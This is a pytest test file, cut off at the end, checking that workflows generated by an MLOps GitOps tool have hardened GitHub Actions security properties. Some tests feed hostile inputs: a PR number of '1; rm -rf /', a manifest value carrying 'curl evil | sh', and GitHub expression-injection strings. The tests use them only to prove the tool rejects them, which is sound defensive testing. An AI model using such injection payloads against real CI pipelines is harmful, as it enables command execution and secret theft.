"""The generated workflows: structure and security properties, read back by parsing the YAML."""

from __future__ import annotations

import hashlib
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from mlops_gitops import __version__
from mlops_gitops.adapters.resources import examples_dir
from mlops_gitops.errors import ManifestError
from mlops_gitops.manifest.loader import load_manifest_text
from mlops_gitops.manifest.model import Manifest
from mlops_gitops.render.actions import ACTIONS
from mlops_gitops.render.toolsource import TOOL_PYTHON
from mlops_gitops.render.workflows import render_workflows
from tests.parts import project_of

WF = ".github/workflows/"

FULL = """\
version: 1
project: {name: iris, default_branch: trunk}
python:
  version: "3.12"
  install: "pip install -r requirements.txt && echo 'done: #1' \\"quoted\\""
  requirements: [requirements.txt, pyproject.toml]
stages:
  train:
    cmd: python train.py
    deps: [train.py, data/iris.csv]
    params: [train]
    outs: [model.pkl]
    metrics: [{metrics.json: {cache: false}}]
metrics:
  gates:
    - {metric: accuracy, min: 0.8}
data:
  remote: "storage: s3 #main"
  secrets: {DVC_EXTRA_TOKEN: DATA_TOKEN, OTHER_VAR: OTHER_SECRET}
  pull_request_secrets: {DVC_EXTRA_TOKEN: DATA_READ_TOKEN}
cloud:
  provider: __PROVIDER__
__CLOUD__
triggers:
  paths: ["src/**", "!src/**/*.md", "*.py", "params.yaml", "**.dvc", "dvc.lock"]
  schedule: "0 3 * * 1"
runners:
  default: {runs_on: ubuntu-22.04, timeout_minutes: 20}
  train: {runs_on: [self-hosted, gpu], timeout_minutes: 240}
  deploy: {timeout_minutes: 7}
  monitor: {runs_on: [self-hosted, cpu]}
deploy:
  model: {name: iris, path: model.pkl}
  token_secret: DEPLOY_TOKEN
  token_login: mlops-deployer[bot]
  environments:
    - {name: staging, file: k8s/staging.yaml, field: spec.model.uri, value: "s3://m/{model_hash}",
       github_environment: staging}
    - {name: canary, file: k8s/canary.yaml, field: spec.model.uri, value: "s3://m/{model_hash}",
       after: [staging], auto: true}
    - {name: production, repo: org/gitops, file: prod.yaml, field: spec.model.uri,
       value: "s3://m/{model_hash}", after: [staging, canary], github_environment: "prod approvals"}
record: {registry: true}
monitoring:
  logs: logs/
  baseline: data/iris.csv
  schedule: "0 5 * * *"
  on_drift: {retrain: true}
"""

# AWS and GCP declare a read-only identity for pull requests; Azure does not (its PRs report the
# committed metrics).
CLOUDS = {
    "aws": (
        '  aws: {role_to_assume: "arn:aws:iam::123456789012:role/dvc", region: eu-west-1,'
        ' pull_requests: {role_to_assume: "arn:aws:iam::123456789012:role/dvc-read"}}'
    ),
    "gcp": (
        "  gcp: {workload_identity_provider: projects/1/locations/global/workloadIdentityPools/p/providers/g,"
        " service_account: dvc@proj.iam.gserviceaccount.com,"
        " pull_requests: {service_account: dvc-read@proj.iam.gserviceaccount.com}}"
    ),
    "azure": "  azure: {client_id: c-1, tenant_id: t-2, subscription_id: s-3}",
    "none": "",
}

MINIMAL = """\
version: 1
project: {name: tiny}
stages:
  train: {cmd: python train.py, deps: [train.py], outs: [model.pkl]}
"""


# A project whose Python is a conda environment, with monitoring so every job kind renders.
CONDA = (
    MINIMAL + "python: {version: '3.9', conda: conda-linux-64.lock, requirements: [conda-linux-64.lock]}\n"
)


def full_manifest(provider: str = "aws") -> Manifest:
    return load_manifest_text(FULL.replace("__PROVIDER__", provider).replace("__CLOUD__", CLOUDS[provider]))


def example_manifest() -> Manifest:
    return load_manifest_text((examples_dir() / "iris" / "mlops.example.yaml").read_text())


def parse(text: str) -> dict[str, Any]:
    data: dict[str, Any] = YAML(typ="safe", pure=True).load(text)
    return data


def all_manifests() -> list[tuple[str, Manifest]]:
    return [
        ("example", example_manifest()),
        ("minimal", load_manifest_text(MINIMAL)),
        *[(f"full-{p}", full_manifest(p)) for p in CLOUDS],
    ]


def steps(job: dict[str, Any]) -> list[dict[str, Any]]:
    result: list[dict[str, Any]] = job["steps"]
    return result


@pytest.fixture(scope="module", params=[name for name, _ in all_manifests()])
def rendered(request: pytest.FixtureRequest) -> tuple[Manifest, dict[str, str]]:
    manifest = dict(all_manifests())[request.param]
    return manifest, render_workflows(project_of(manifest))


def test_security_properties_hold_in_every_workflow(rendered: tuple[Manifest, dict[str, str]]) -> None:
    _, files = rendered
    pinned = {a.ref for a in ACTIONS.values()}
    for path, text in files.items():
        wf = parse(text)
        assert wf["permissions"] == {}, path
        assert "pull_request_target" not in wf["on"], path
        for job_id, job in wf["jobs"].items():
            where = f"{path}:{job_id}"
            assert isinstance(job["timeout-minutes"], int) and job["timeout-minutes"] > 0, where
            assert isinstance(job["permissions"], dict), where
            for step in steps(job):
                if "uses" in step:
                    assert re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", step["uses"]), where
                    # An action of the table, or one of its repository's sub-actions at the same commit
                    # (actions/cache/restore and /save, pinned with actions/cache).
                    owner, name, *_ = step["uses"].split("@")[0].split("/")
                    assert f"{owner}/{name}@{step['uses'].split('@')[1]}" in pinned, where
                if step.get("uses", "").startswith("actions/checkout@"):
                    assert step["with"]["persist-credentials"] is False, where
                # Expressions may feed env: and with:, never the shell script itself.
                assert "${{" not in step.get("run", ""), f"{where}: {step.get('name')}"
        # Each pin keeps its release in a comment on the same line.
        for line in text.splitlines():
            if re.match(r"\s*(- )?uses:", line):
                assert re.search(r"@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line), line


def test_oidc_token_only_where_the_cloud_is_reached(rendered: tuple[Manifest, dict[str, str]]) -> None:
    manifest, files = rendered
    cloud = manifest.cloud.provider != "none"
    cloud_jobs = {("mlops-pr.yml", "train"), ("mlops-train.yml", "train"), ("mlops-monitor.yml", "measure")}
    cloud_actions = {ACTIONS[k].ref for k in ("aws", "gcp", "azure")}
    for path, text in files.items():
        for job_id, job in parse(text)["jobs"].items():
            key = (path.removeprefix(WF), job_id)
            has_token = job["permissions"].get("id-token") == "write"
            expected = cloud and key in cloud_jobs
            if key == ("mlops-pr.yml", "train"):  # only with a read-only identity for pull requests
                expected = expected and manifest.cloud.pull_requests is not None
            assert has_token == expected, key
            logins = [s for s in steps(job) if s.get("uses") in cloud_actions]
            assert len(logins) == (1 if has_token else 0), key


def commands(run: str) -> list[str]:
    """A step's shell lines, comments left out."""
    return [line for line in run.splitlines() if line.strip() and not line.lstrip().startswith("#")]


def assert_tool_cache(job_steps: list[dict[str, Any]], install: dict[str, Any], locked: str) -> None:
    """The key step, the restore before the install and the save right after it, one folder, one key:
    the tool's pin, the job's extras and plugins, the Python; saved only when the key missed."""
    order = [s.get("id") or s.get("name", "") for s in job_steps]
    at = order.index(install["name"])
    key, restore, save = job_steps[at - 2], job_steps[at - 1], job_steps[at + 1]
    assert (key["id"], restore["id"]) == ("mlops-tool", "mlops-tool-cache")
    assert key["env"] == {k: install["env"][k] for k in ("MLOPS_GITOPS", "TOOL_PYTHON")}
    assert key["run"].rstrip().endswith(f'\' "{locked}" >> "$GITHUB_OUTPUT"')
    # The key is the tool's Python's own sha256 of the pin, the extras and plugins, and its ABI.
    program = key["run"].split("-c '", 1)[1].rsplit("'", 1)[0]
    out = subprocess.run(
        [sys.executable, "-c", program, locked],
        env={"MLOPS_GITOPS": install["env"]["MLOPS_GITOPS"]},
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    base = os.path.realpath(getattr(sys, "_base_executable", "") or sys.executable)
    parts = [install["env"]["MLOPS_GITOPS"], locked, sys.implementation.cache_tag, sys.version, base]
    assert out == f"key={hashlib.sha256(chr(10).join(parts).encode()).hexdigest()}\n"
    cache = ACTIONS["cache"]
    assert restore["uses"] == f"{cache.repo}/restore@{cache.sha}"
    assert save["uses"] == f"{cache.repo}/save@{cache.sha}"
    assert save["if"] == "steps.mlops-tool-cache.outputs.cache-hit != 'true'"
    for step in (restore, save):
        assert step["with"] == {
            "path": "${{ runner.temp }}/mlops-gitops",
            "key": "mlops-gitops-${{ runner.os }}-${{ runner.arch }}-${{ steps.mlops-tool.outputs.key }}",
        }
    assert "restore-keys" not in restore["with"], "only the exact key: a cache is never another lock's"


def test_pr_workflow_checks_then_trains_only_when_inputs_changed(
    rendered: tuple[Manifest, dict[str, str]],
) -> None:
    manifest, files = rendered
    wf = parse(files[WF + "mlops-pr.yml"])
    assert wf["name"] == "mlops-pr"
    assert list(wf["on"]) == ["pull_request"]
    assert wf["concurrency"]["cancel-in-progress"] is True
    assert "pull_request.number" in wf["concurrency"]["group"]
    check, train = wf["jobs"]["check"], wf["jobs"]["train"]
    assert check["permissions"] == {"contents": "read"}
    runs = [s.get("run", "") for s in steps(check)]
    install = next(s for s in steps(check) if s.get("name", "").startswith("Install mlops-gitops"))
    # The check job needs the core only: no DVC, no PyGithub, no pyarrow; in an environment of its own
    # made from the tool's Python, with only `mlops-gitops` linked onto PATH.
    tool = '"$venv/bin/python"'
    # The environment restored before (no write token here), used when whole; else installed anew,
    # uv from its checked wheel outside it. Each command runs its script with the environment's python.
    assert commands(install["run"]) == [
        'venv="$RUNNER_TEMP/mlops-gitops"',
        f'if [ ! -x "$venv/bin/python" ] || ! {tool} -m mlops_gitops.locks ready; then',
        '  "$TOOL_PYTHON" -m venv --clear --without-pip "$venv"',
        '  "$TOOL_PYTHON" -m pip --python "$venv/bin/python" install --no-deps "$MLOPS_GITOPS"',
        f'  MLOPS_GITOPS_UV="$RUNNER_TEMP/mlops-gitops-uv" {tool} -m mlops_gitops.locks install',
        "fi",
        'mkdir -p "$RUNNER_TEMP/mlops-gitops-bin"',
        "for command in mlops-gitops; do",
        """  printf '#!/bin/sh\\nexec "%s" "%s" "$@"\\n' "$venv/bin/python" "$venv/bin/$command" """
        '> "$RUNNER_TEMP/mlops-gitops-bin/$command"',
        '  chmod +x "$RUNNER_TEMP/mlops-gitops-bin/$command"',
        "done",
        'echo "$RUNNER_TEMP/mlops-gitops-bin" >> "$GITHUB_PATH"',
    ]
    assert_tool_cache(steps(check), install, "")
    assert install["env"]["MLOPS_GITOPS"] == f"mlops-gitops=={__version__}"
    assert install["env"]["TOOL_PYTHON"] == "${{ steps.mlops-python.outputs.python-path }}"
    tool_python = next(s for s in steps(check) if s.get("id") == "mlops-python")
    assert tool_python["with"]["python-version"] == TOOL_PYTHON
    trainer = next(s for s in steps(train) if s.get("name", "").startswith("Install mlops-gitops"))
    # pyarrow and NumPy (the checks extra: the data extra without SciPy) only where data is validated.
    locked = "checks dvc" if manifest.data_checks else "dvc"
    assert (
        f'  MLOPS_GITOPS_UV="$RUNNER_TEMP/mlops-gitops-uv" {tool} -m mlops_gitops.locks install {locked}'
        in commands(trainer["run"])
    )
    assert_tool_cache(steps(train), trainer, locked)
    assert "for command in mlops-gitops dvc; do" in commands(trainer["run"])
    # The project's Python is its own version, set up after the tool's; the tool's commands go on PATH
    # last, so they come first, while `python` stays the project's.
    train_steps = steps(train)
    order = [s.get("id") or s.get("name", "") for s in train_steps]
    project_python = f"Set up Python {manifest.python_version} for the project"
    assert (
        order.index("mlops-python")
        < order.index(project_python)
        < order.index("Install the project's requirements")
        < order.index(trainer["name"])
    )
    assert train_steps[order.index(project_python)]["with"]["python-version"] == manifest.python_version
    assert "mlops-gitops validate" in runs
    assert "mlops-gitops generate --check" in runs
    changed = next(s for s in steps(check) if s.get("id") == "changed")
    assert changed["run"] == 'mlops-gitops changed --base "$BASE_SHA"'
    assert changed["env"]["BASE_SHA"] == "${{ github.event.pull_request.base.sha }}"
    assert steps(check)[0]["with"]["fetch-depth"] == 0
    assert check["outputs"]["retrain"] == "${{ steps.changed.outputs.retrain }}"

    assert train["needs"] == "check"
    assert train["if"] == "needs.check.outputs.retrain == 'true'"
    assert train["runs-on"] == _runs_on(manifest, "train")
    assert train["timeout-minutes"] == manifest.runner("train").timeout_minutes
    train_runs = "\n".join(s.get("run", "") for s in steps(train))
    assert manifest.install in [s.get("run") for s in steps(train)]
    names = [s.get("name", "") for s in steps(train)]
    assert names.index("DVC cache") < names.index(
        "Reproduce the pipelines that changed, reusing the run-cache"
    )
    # Only the pipelines `changed` chose are reproduced, passed NUL-separated (paths are data).
    targets = next(s for s in steps(train) if s.get("name") == "Which pipelines changed")
    assert (
        targets["run"]
        == 'mlops-gitops changed --base "$BASE_SHA" --targets-file "$RUNNER_TEMP/mlops-targets"'
    )
    assert names.index("Which pipelines changed") < names.index("DVC cache")
    cache = next(s for s in steps(train) if s.get("name") == "DVC cache")
    assert cache["with"]["path"] == ".dvc/cache" and "hashFiles('**/dvc.lock')" in cache["with"]["key"]
    reproduce = next(s for s in steps(train) if s.get("name", "").startswith("Reproduce"))
    # The check job decides once whether this pull request can reproduce (forks cannot).
    assert check["outputs"]["reproduce"] == "${{ steps.mode.outputs.reproduce }}"
    assert reproduce["if"] == "needs.check.outputs.reproduce == 'true'"
    if manifest.data_remote:
        assert (
            'xargs -0 -r -a "$RUNNER_TEMP/mlops-targets" dvc repro --pull --allow-missing' in reproduce["run"]
        )
        # A pull request's code runs here: nothing it made reaches the store the default branch uses.
        assert "push-runs" not in reproduce["run"] and "dvc push" not in reproduce["run"]
        assert reproduce["env"]["DVC_REMOTE"] == manifest.data_remote
    # Only the read-only secrets declared for pull requests.
    pr_env = {k: v for k, v in reproduce.get("env", {}).items() if k != "DVC_REMOTE"}
    assert pr_env == {var: f"${{{{ secrets.{secret} }}}}" for var, secret in manifest.data_pr_secrets.items()}
    # Fork PRs: no secrets, so no reproduction; the report says so plainly.
    mode = next(s for s in steps(check) if s.get("id") == "mode")
    assert mode["if"] == "steps.changed.outputs.retrain == 'true'"
    assert mode["env"]["HEAD_REPO"] == "${{ github.event.pull_request.head.repo.full_name }}"
    assert "could not reproduce" in train_runs
    report_env = next(s for s in steps(train) if s.get("id") == "report")["env"]
    assert report_env["REPRODUCED"] == "${{ needs.check.outputs.reproduce }}"
    assert '--output "$out/report.md" --json-output "$out/report.json"' in train_runs
    assert 'printf \'%s\\n\' "$PR_NUMBER" > "$RUNNER_TEMP/mlops-report/pr-number.txt"' in train_runs
    upload = steps(train)[-1]
    assert upload["uses"] == ACTIONS["upload_artifact"].ref
    assert upload["with"]["name"] == "mlops-report"
    assert upload["if"] == "${{ !cancelled() }}"
    # The report step runs whether or not this run reproduced, even after a failed reproduction (data
    # that failed validation stops DVC, and reviewers need to see why), and its exit code fails the check.
    report = next(s for s in steps(train) if s.get("id") == "report")
    assert report["if"] == "${{ !cancelled() }}" and "continue-on-error" not in report
    assert report["env"]["REPRO_OUTCOME"] == "${{ steps.repro.outcome }}"
    assert "did not reproduce" in report["run"]


def test_comment_workflow_never_touches_pr_code(rendered: tuple[Manifest, dict[str, str]]) -> None:
    _, files = rendered
    text = files[WF + "mlops-comment.yml"]
    wf = parse(text)
    assert wf["name"] == "mlops-comment"
    assert wf["on"] == {"workflow_run": {"workflows": ["mlops-pr"], "types": ["completed"]}}
    # The only zizmor suppression, with its reason on the line above.
    assert "workflow_run: # zizmor: ignore[dangerous-triggers]" in text
    (job,) = wf["jobs"].values()
    # record.pull_requests defaults to commit: the bot commits the reproduced dvc.lock and its status.
    assert job["permissions"] == {
        "actions": "read",
        "pull-requests": "write",
        "contents": "write",
        "statuses": "write",
    }
    uses = [s["uses"] for s in steps(job) if "uses" in s]
    assert ACTIONS["checkout"].ref not in uses
    download = next(s for s in steps(job) if s.get("uses") == ACTIONS["download_artifact"].ref)
    assert download["with"]["run-id"] == "${{ github.event.workflow_run.id }}"
    assert download["with"]["name"] == "mlops-report"
    post = steps(job)[-1]
    assert (
        'mlops-gitops comment --report "$RUNNER_TEMP/mlops-report/report.md" --pr "$PR_NUMBER"'
        ' --head-sha "$HEAD_SHA"'
    ) in post["run"]
    assert '--record commit --lock-dir "$RUNNER_TEMP/mlops-report/lock"' in post["run"]
    # The run's link and conclusion come from GitHub's payload, never from the run's artifact.
    assert post["env"]["RUN_CONCLUSION"] == "${{ github.event.workflow_run.conclusion }}"
    assert post["env"]["GITHUB_TOKEN"] == "${{ secrets.GITHUB_TOKEN }}"


def test_record_off_keeps_the_comment_job_to_its_two_grants() -> None:
    manifest = load_manifest_text(MINIMAL + "record: {pull_requests: 'off'}\n")
    text = render_workflows(project_of(manifest))
    (job,) = parse(text[WF + "mlops-comment.yml"])["jobs"].values()
    assert job["permissions"] == {"actions": "read", "pull-requests": "write"}
    assert "--record" not in steps(job)[-1]["run"]
    assert "Keep the reproduced dvc.lock" not in text[WF + "mlops-pr.yml"]


@pytest.mark.parametrize(
    "value,valid",
    [
        ("12", True),
        ("7", True),
        ("0", False),
        ("1; rm -rf /", False),
        ("", False),
        ("12\n13", False),
        ("-1", False),
        ("１２", False),
    ],
)
def test_comment_workflow_accepts_only_an_integer_pr_number(tmp_path: Any, value: str, valid: bool) -> None:
    import subprocess

    job = next(
        iter(
            parse(render_workflows(project_of(load_manifest_text(MINIMAL)))[WF + "mlops-comment.yml"])[
                "jobs"
            ].values()
        )
    )
    check = next(s for s in steps(job) if s.get("id") == "check")
    report_dir = tmp_path / "mlops-report"
    report_dir.mkdir()
    (report_dir / "pr-number.txt").write_text(value + "\n")
    (report_dir / "report.md").write_text("report")
    out = tmp_path / "out"
    proc = subprocess.run(
        ["bash", "-e", "-c", check["run"]],
        env={"RUNNER_TEMP": str(tmp_path), "GITHUB_OUTPUT": str(out), "PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
    )
    assert (proc.returncode == 0) == valid, proc.stdout + proc.stderr
    if valid:
        assert out.read_text() == f"pr={value}\n"


def test_train_workflow_follows_the_manifest_triggers(rendered: tuple[Manifest, dict[str, str]]) -> None:
    manifest, files = rendered
    wf = parse(files[WF + "mlops-train.yml"])
    assert wf["name"] == "mlops-train"
    assert wf["on"]["push"] == {
        "branches": [manifest.default_branch],
        "paths": list(project_of(manifest).trigger_paths()),
    }
    assert "workflow_dispatch" in wf["on"]
    if manifest.schedule:
        assert wf["on"]["schedule"] == [{"cron": manifest.schedule}]
    else:
        assert "schedule" not in wf["on"]
    assert wf["concurrency"]["cancel-in-progress"] is False
    job = wf["jobs"]["train"]
    assert job["runs-on"] == _runs_on(manifest, "train")
    assert job["timeout-minutes"] == manifest.runner("train").timeout_minutes
    assert job["permissions"]["contents"] == "read"
    run = "\n".join(s.get("run", "") for s in steps(job))
    if manifest.data_remote:
        # The default branch never skips an output dvc.lock names but nobody pushed: it produces it.
        assert "dvc repro --pull\n" in run and "repro --pull --allow-missing" not in run
        assert "mlops-gitops push-runs" in run
    else:
        assert "dvc repro" in run and "dvc push" not in run
    # A run whose reproduced dvc.lock differs from the commit fails, so mlops-deploy (which follows a
    # successful run) never promotes a model the commit does not describe; the run is handed to the
    # retrained-model PR first.
    check = next(s for s in steps(job) if s.get("name") == "Is the model recorded in Git?")
    # Every pipeline's dvc.lock, wherever its dvc.yaml is.
    assert "git diff --quiet -- ':(glob)**/dvc.lock'" in check["run"]
    hold = next(s for s in steps(job) if s.get("name") == "Hold deployment until the model is recorded")
    assert hold["if"] == "steps.recorded.outputs.recorded == 'false'" and "exit 1" in hold["run"]
    names = [s.get("name") for s in steps(job)]
    assert (
        names.index("Reproduce the pipelines, reusing the run-cache")
        < names.index("Is the model recorded in Git?")
        < names.index("Upload the retrain")
        < names.index("Hold deployment until the model is recorded")
    )
    pr_job = wf["jobs"]["retrained-model"]
    assert pr_job["needs"] == "train" and "needs.train.outputs.recorded == 'false'" in pr_job["if"]
    # The write tokens sit in a job that runs only mlops-gitops on the manifest and the artifact.
    assert pr_job["permissions"]["contents"] == "write" and "id-token" not in pr_job["permissions"]
    assert [s.get("run") for s in steps(pr_job)][
        -1
    ] == 'mlops-gitops retrain-pr --from "$RUNNER_TEMP/mlops-retrain"'
    assert wf["on"]["workflow_dispatch"]["inputs"]["reason"]["options"] == ["dispatch", "drift"]
    # A push reproduces what it changed; a schedule or a dispatch, everything.
    chooser = next(s for s in steps(job) if s.get("name") == "Which pipelines to reproduce")
    assert 'changed --base "$BEFORE"' in chooser["run"] and "changed --all" in chooser["run"]
    assert steps(job)[0]["with"]["fetch-depth"] == 0


def test_deploy_workflow_orders_environments_and_scopes_write_access(
    rendered: tuple[Manifest, dict[str, str]],
) -> None:
    manifest, files = rendered
    if not manifest.deploy:
        assert WF + "mlops-deploy.yml" not in files
        return
    wf = parse(files[WF + "mlops-deploy.yml"])
    assert wf["on"]["workflow_run"] == {
        "workflows": ["mlops-train"],
        "types": ["completed"],
        "branches": [manifest.default_branch],
    }
    choice = wf["on"]["workflow_dispatch"]["inputs"]["environment"]
    assert choice["type"] == "choice"
    assert choice["options"] == [e.name for e in manifest.deploy.environments]
    jobs = wf["jobs"]
    assert len(jobs) == len(manifest.deploy.environments)
    ids = {e.name: f"promote-{e.name}" for e in manifest.deploy.environments}
    for env in manifest.deploy.environments:
        job = jobs[ids[env.name]]
        assert job.get("needs", []) == [ids[a] for a in env.after]
        assert job.get("environment") == env.github_environment
        assert job["timeout-minutes"] == manifest.runner("deploy").timeout_minutes
        assert ("workflow_run.conclusion == 'success'" in job["if"]) == env.auto
        assert f"inputs.environment == '{env.name}'" in job["if"]
        if manifest.deploy.token_secret:
            assert job["permissions"] == {"contents": "read"}
        else:
            assert job["permissions"] == {"contents": "write", "pull-requests": "write"}
        promote = steps(job)[-1]
        assert promote["run"] == 'mlops-gitops promote --env "$ENVIRONMENT" --model-ref "$MODEL_REF"'
        assert promote["env"]["ENVIRONMENT"] == env.name
        secret = manifest.deploy.token_secret or "GITHUB_TOKEN"
        assert promote["env"]["GITHUB_TOKEN"] == f"${{{{ secrets.{secret} }}}}"
        # The identity whose PRs and comments promote may edit: the App's login with its token.
        assert promote["env"].get("MLOPS_GITOPS_BOT_LOGIN") == manifest.deploy.token_login


def test_monitor_workflow_only_when_configured(rendered: tuple[Manifest, dict[str, str]]) -> None:
    manifest, files = rendered
    if not manifest.monitoring:
        assert WF + "mlops-monitor.yml" not in files
        return
    wf = parse(files[WF + "mlops-monitor.yml"])
    assert wf["on"]["schedule"] == [{"cron": manifest.monitoring.schedule}]
    measure, alert = wf["jobs"]["measure"], wf["jobs"]["alert"]
    # Measuring runs the project's requirements and reads the cloud: no write token.
    assert not any(v == "write" for k, v in measure["permissions"].items() if k != "id-token")
    assert any("mlops-gitops monitor --no-github" in s.get("run", "") for s in steps(measure))
    # Posting holds the token and runs nothing but the hash-locked tool.
    assert alert["needs"] == "measure" and alert["permissions"]["issues"] == "write"
    assert ("actions" in alert["permissions"]) == manifest.monitoring.on_drift.retrain
    assert "id-token" not in alert["permissions"]
    assert steps(alert)[-1]["run"] == 'mlops-gitops monitor --alert-from "$RUNNER_TEMP/mlops-monitor"'


def test_example_renders_the_three_core_workflows_and_deploy() -> None:
    files = render_workflows(project_of(example_manifest()))
    assert sorted(files) == [
        WF + n for n in ("mlops-comment.yml", "mlops-deploy.yml", "mlops-pr.yml", "mlops-train.yml")
    ]
    for text in files.values():
        assert not text.startswith("#!") and text.endswith("\n") and not text.endswith("\n\n")


def test_rendering_is_deterministic() -> None:
    manifest = full_manifest("gcp")
    assert render_workflows(project_of(manifest)) == render_workflows(project_of(full_manifest("gcp")))


def test_manifest_values_cannot_inject_yaml() -> None:
    hostile = MINIMAL.replace(
        "project: {name: tiny}",
        'project: {name: tiny, default_branch: "main\\n    evil: true"}\n'
        'python: {install: "pip install x\\n  - run: curl evil | sh\\njobs: {}"}\n'
        'triggers: {paths: ["a: b", "\'quoted\'", "# not a comment", "[x]"]}',
    )
    manifest = load_manifest_text(hostile)
    files = render_workflows(project_of(manifest))
    train = parse(files[WF + "mlops-train.yml"])
    assert train["on"]["push"]["branches"] == ["main\n    evil: true"]
    assert train["on"]["push"]["paths"] == ["a: b", "'quoted'", "# not a comment", "[x]"]
    install = next(
        s for s in steps(train["jobs"]["train"]) if s.get("name") == "Install the project's requirements"
    )
    assert install["run"] == manifest.install
    assert set(parse(files[WF + "mlops-pr.yml"])["jobs"]) == {"check", "train"}


def test_expressions_in_manifest_values_are_refused() -> None:
    hostile = MINIMAL + 'python: {install: "pip install ${{ github.event.pull_request.title }}"}\n'
    with pytest.raises(ManifestError) as err:
        render_workflows(project_of(load_manifest_text(hostile)))
    assert "python.install" in str(err.value) and "${{" in str(err.value)


def _runs_on(manifest: Manifest, job: str) -> Any:
    runs_on = manifest.runner(job).runs_on
    return list(runs_on) if isinstance(runs_on, tuple) else runs_on


def test_hand_owned_pipelines_validate_data_before_dvc_repro(tmp_path: Path) -> None:
    """mlops-gitops cannot add a stage to a pipeline it does not own: the workflows validate first."""
    import subprocess

    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    (tmp_path / "dvc.yaml").write_text("stages:\n  train:\n    cmd: python t.py\n    deps: [data.csv]\n")
    manifest = load_manifest_text(
        "version: 1\nproject: {name: p}\npipelines: [dvc.yaml]\n"
        "data:\n  remote: s\n  checks:\n    - {path: data.csv, min_rows: 1}\n"
    )
    files = render_workflows(project_of(manifest, tmp_path))
    for workflow, job in (("mlops-pr.yml", "train"), ("mlops-train.yml", "train")):
        names = [s.get("name") for s in steps(parse(files[WF + workflow])["jobs"][job])]
        validate = names.index("Validate the input data")
        reproduce = next(i for i, n in enumerate(names) if n and n.startswith("Reproduce"))
        assert validate < reproduce, (workflow, names)
        step = steps(parse(files[WF + workflow])["jobs"][job])[validate]
        assert step["run"] == "mlops-gitops validate-data --format json --output .mlops/data-validation.json"
        assert step["env"]["DVC_REMOTE"] == "s"
    # With stages: in the manifest, validation is the first stage of the generated dvc.yaml instead.
    owned = render_workflows(project_of(example_manifest()))
    assert "Validate the input data" not in owned[WF + "mlops-pr.yml"]


CHECKOUT_SHA = "11bd71901bbe5b1630ceea73d27597364c9af683"
CUSTOM = (
    MINIMAL
    + f"""\
python: {{requirements: [src/requirements.txt]}}
data: {{remote: storage}}
runners:
  default:
    env: {{HF_HOME: /tmp/hf}}
  train:
    runs_on: [self-hosted, gpu]
    container: {{image: "nvidia/cuda:12.4.1-runtime-ubuntu22.04@sha256:3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b", options: "--gpus all"}}
    services:
      postgres: {{image: "postgres:16@sha256:c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4c4", env: {{POSTGRES_PASSWORD: postgres}}, ports: [5432]}}
    env: {{WANDB_PROJECT: iris, CUDA_VISIBLE_DEVICES: "0"}}
    secrets: {{WANDB_API_KEY: WANDB_API_KEY, HF_TOKEN: HF_TOKEN}}
    steps:
      before_install:
        - {{name: System packages, run: "sudo apt-get install -y libgomp1"}}
      after_install:
        - name: Log in to the registry
          uses: docker/login-action@{"9780b0c442fbb1117ed29e0efdff1e18412f7567"}
          with: {{registry: ghcr.io, username: bot, password: "${{{{ secrets.GHCR_TOKEN }}}}"}}
      after_repro:
        - {{name: Upload the model card, run: "python src/card.py"}}
  deploy:
    secrets: {{ARGO_TOKEN: ARGO_TOKEN}}
deploy:
  model: {{name: m, path: model.pkl}}
  environments:
    - {{name: staging, file: k8s/staging.yaml, field: spec.model.uri, value: "s3://m/{{model_hash}}"}}
"""
)


def custom_manifest() -> Manifest:
    return load_manifest_text(CUSTOM)


def test_jobs_take_env_secrets_steps_container_and_services_from_the_manifest() -> None:
    files = render_workflows(project_of(custom_manifest()))
    pr, train = parse(files[WF + "mlops-pr.yml"]), parse(files[WF + "mlops-train.yml"])
    job = train["jobs"]["train"]
    assert job["container"] == {
        "image": "nvidia/cuda:12.4.1-runtime-ubuntu22.04@sha256:3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b3b",
        "options": "--gpus all",
    }
    assert job["services"]["postgres"]["ports"] == [5432]
    assert job["env"]["WANDB_PROJECT"] == "iris" and job["env"]["HF_HOME"] == "/tmp/hf"  # default's add up
    assert job["env"]["WANDB_API_KEY"] == "${{ secrets.WANDB_API_KEY }}"
    names = [s.get("name") for s in steps(job)]
    order = [
        "System packages",
        "Install the project's requirements",
        "Install mlops-gitops 0.1.0 with dvc in its own environment (hash-locked)",
    ]
    assert [n for n in names if n in order] == order
    assert names.index("Log in to the registry") > names.index("Install the project's requirements")
    assert (
        names.index("Upload the model card")
        == names.index("Reproduce the pipelines, reusing the run-cache") + 1
    )
    login = next(s for s in steps(job) if s.get("name") == "Log in to the registry")
    assert login["with"]["password"] == "${{ secrets.GHCR_TOKEN }}"
    # A pull request from another repository never gets a secret, whatever its settings say.
    pr_train = pr["jobs"]["train"]
    assert pr_train["env"]["HF_TOKEN"] == (
        "${{ github.event.pull_request.head.repo.full_name == github.repository && secrets.HF_TOKEN || '' }}"
    )
    assert (
        "secrets." not in files[WF + "mlops-pr.yml"].split("  train:")[0].split("jobs:")[1]
    )  # not the check job
    assert pr["jobs"]["check"]["env"] == {"HF_HOME": "/tmp/hf"}
    deploy = parse(files[WF + "mlops-deploy.yml"])["jobs"]["promote-staging"]
    assert deploy["env"]["ARGO_TOKEN"] == "${{ secrets.ARGO_TOKEN }}"
    # The comment job takes nothing from the manifest: it holds a write token.
    comment = parse(files[WF + "mlops-comment.yml"])["jobs"]["comment"]
    assert "env" not in comment and "container" not in comment


@pytest.mark.parametrize(
    ("snippet", "message"),
    [
        (
            "runners:\n  train:\n    steps:\n      after_repro:\n        - uses: actions/upload-artifact@v4\n",
            "mlops.yaml:9:17: runners.train.steps.after_repro[0].uses: 'actions/upload-artifact@v4' is not pinned",
        ),
        (
            "runners:\n  train:\n    steps:\n      before_install:\n        - run: echo ${{ github.event.pull_request.title }}\n",
            "mlops.yaml:9:16: runners.train.steps.before_install[0].run: '${{' is not allowed here",
        ),
        (
            "runners:\n  train:\n    steps:\n      after_install:\n"
